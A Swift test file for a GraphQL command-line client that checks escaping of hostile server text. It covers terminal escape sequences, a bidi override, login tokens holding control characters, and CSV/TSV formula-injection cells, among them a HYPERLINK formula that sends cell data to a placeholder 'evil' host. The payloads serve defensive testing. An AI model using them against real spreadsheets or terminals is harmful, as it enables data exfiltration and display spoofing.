import Foundation
import GraphQLWire
import TestSupport
import Testing

/// A server's escape sequences reach a terminal in no output format: CSV like tables and TSV,
/// and `--json` and `query` with the C1 CSI (U+009B) and bidi override (U+202E) as `\u` escapes.
@Suite struct HostileServerTextTests {
  static let hostileLaunch =
    #"{"data":{"launch":{"id":"110","site":"Pad\u009b2J","mission":{"name":"CRS-21\u001b]0;PWNED-TITLE\u0007\u001b[2J","missionPatch":null},"rocket":{"id":"r","name":"R\u202eX","type":"T"},"isBooked":false}}}"#

  @Test func csvAndJSONOnATerminalAreEscaped() throws {
    let fixture = try ShellFixture()
    let stub = try fixture.stubWithTheRealSchema { _ in Self.hostileLaunch }
    let terminal = try fixture.startShell(arguments: ["--no-apq", "--endpoint", stub.url().absoluteString])
    terminal.send("launch 110 --format csv\n")
    let csv = try fixture.expectPrompt(terminal)
    #expect(csv.contains("110,CRS-21\\x1b]0;PWNED-TITLE\\x07\\x1b[2J"))
    terminal.send("launch 110 --json\n")
    let json = try fixture.expectPrompt(terminal)
    #expect(json.contains(#""site": "Pad\u009b2J""#))
    #expect(json.contains(#""name": "R\u202eX""#))
    terminal.send("query '{ launch(id: 110) { site rocket { name } } }'\n")
    let query = try fixture.expectPrompt(terminal)
    #expect(query.contains(#"Pad\u009b2J"#))
    for output in [csv, json, query] {
      #expect(!output.contains("\u{1B}]0;"))
      #expect(!output.contains("\u{9B}"))
      #expect(!output.contains("\u{202E}"))
    }
    terminal.sendControl("d")
    #expect(try terminal.waitForExit(timeout: ShellFixture.patience) == 0)
  }

  @Test func jsonIntoAPipeEscapesC1ControlsAsItDoesC0AndKeepsTheRestOfTheServersText() throws {
    let stub = try LoopbackHTTPStub(response: .json(Self.hostileLaunch))
    let fixture = try ShellFixture()
    let run = try fixture.run(["--endpoint", stub.url().absoluteString, "--json", "launch", "110"])
    #expect(run.status == 0)
    #expect(run.standardOutput.contains(#""site": "Pad\u009b2J""#))
    #expect(run.standardOutput.contains(#"\u001b]0;PWNED-TITLE\u0007"#))
    #expect(!run.standardOutput.unicodeScalars.contains { (0x80...0x9F).contains($0.value) })
    // Not a control: a file or pipe gets it as the server wrote it.
    #expect(run.standardOutput.contains("R\u{202E}X"))
  }

  static let formulaLaunches =
    #"{"data":{"launches":{"cursor":"c","hasMore":false,"launches":["#
    + #"{"id":"1","site":"=HYPERLINK(\"http://evil\"&A1,\"x\")","mission":{"name":"+SUM(1,2)","missionPatch":null},"rocket":{"name":"-2+3","type":"FT"},"isBooked":false},"#
    + #"{"id":"2","site":"@cmd","mission":{"name":"\tTab","missionPatch":null},"rocket":{"name":"\rCR","type":"FT"},"isBooked":false},"#
    + #"{"id":"3","site":"a=b","mission":{"name":"plain","missionPatch":null},"rocket":{"name":"Falcon 9","type":"FT"},"isBooked":false}]}}}"#

  @Test func csvAndTSVCellsThatASpreadsheetWouldEvaluateStartWithAQuote() throws {
    let stub = try LoopbackHTTPStub(response: .json(Self.formulaLaunches))
    let fixture = try ShellFixture()
    let endpoint = stub.url().absoluteString
    let csv = try fixture.run(["--no-apq", "--endpoint", endpoint, "launches", "--format", "csv"])
    #expect(csv.status == 0, "\(csv.standardError)")
    let csvLines = csv.standardOutput.split(separator: "\r\n").map(String.init)
    #expect(csvLines.count == 4)
    #expect(csvLines[1].contains(#""'=HYPERLINK(""http://evil""&A1,""x"")""#))
    #expect(csvLines[1].contains(#""'+SUM(1,2)""#))
    #expect(csvLines[1].contains("'-2+3"))
    #expect(csvLines[2].contains("'@cmd"))
    #expect(csvLines[2].contains(#"'\tTab"#))
    #expect(csvLines[2].contains(#"'\rCR"#))
    #expect(csvLines[3].contains("a=b") && !csvLines[3].contains("'"))
    let tsv = try fixture.run(["--no-apq", "--endpoint", endpoint, "launches", "--format", "tsv"])
    #expect(tsv.status == 0)
    let cells = tsv.standardOutput.split(separator: "\n").dropFirst().flatMap { $0.split(separator: "\t") }
    #expect(cells.contains(#"'=HYPERLINK("http://evil"&A1,"x")"#))
    #expect(cells.contains("'+SUM(1,2)"))
    #expect(cells.contains("'@cmd"))
    #expect(cells.contains("plain"))
    #expect(!cells.contains { $0.first == "=" || $0.first == "+" || $0.first == "@" || $0.first == "-" })
  }

  @Test(arguments: ["tok\nen", "tok\u{1B}[2Jen", "tok\u{9B}en", "tok\ten"])
  func aLoginTokenWithControlCharactersIsRefusedAndNothingIsSaved(token: String) throws {
    let fixture = try ShellFixture()
    let answer = JSON.object([
      "data": .object([
        "login": .object(["id": .string("2"), "email": .string("bob@example.com"), "token": .string(token)])
      ])
    ])
    let stub = try LoopbackHTTPStub(response: .json(answer.encodedString))
    let endpoint = stub.url().absoluteString
    // A login saved before: the refused one must leave the file as it was.
    let good = try LoopbackHTTPStub(
      response: .json(#"{"data":{"login":{"id":"1","email":"ada@example.com","token":"good-token"}}}"#))
    #expect(
      try fixture.run(["--no-apq", "--endpoint", good.url().absoluteString, "login", "ada@example.com"])
        .status == 0)
    let before = try Data(contentsOf: fixture.credentialsFile)

    let run = try fixture.run(["--no-apq", "--endpoint", endpoint, "login", "bob@example.com"])
    #expect(run.status == 1)
    #expect(
      run.standardError.contains("the login token holds a control character (U+"), "\(run.standardError)")
    #expect(run.standardError.contains("nothing was saved"))
    #expect(!run.standardOutput.contains("logged in"))
    #expect(try Data(contentsOf: fixture.credentialsFile) == before)
  }
}
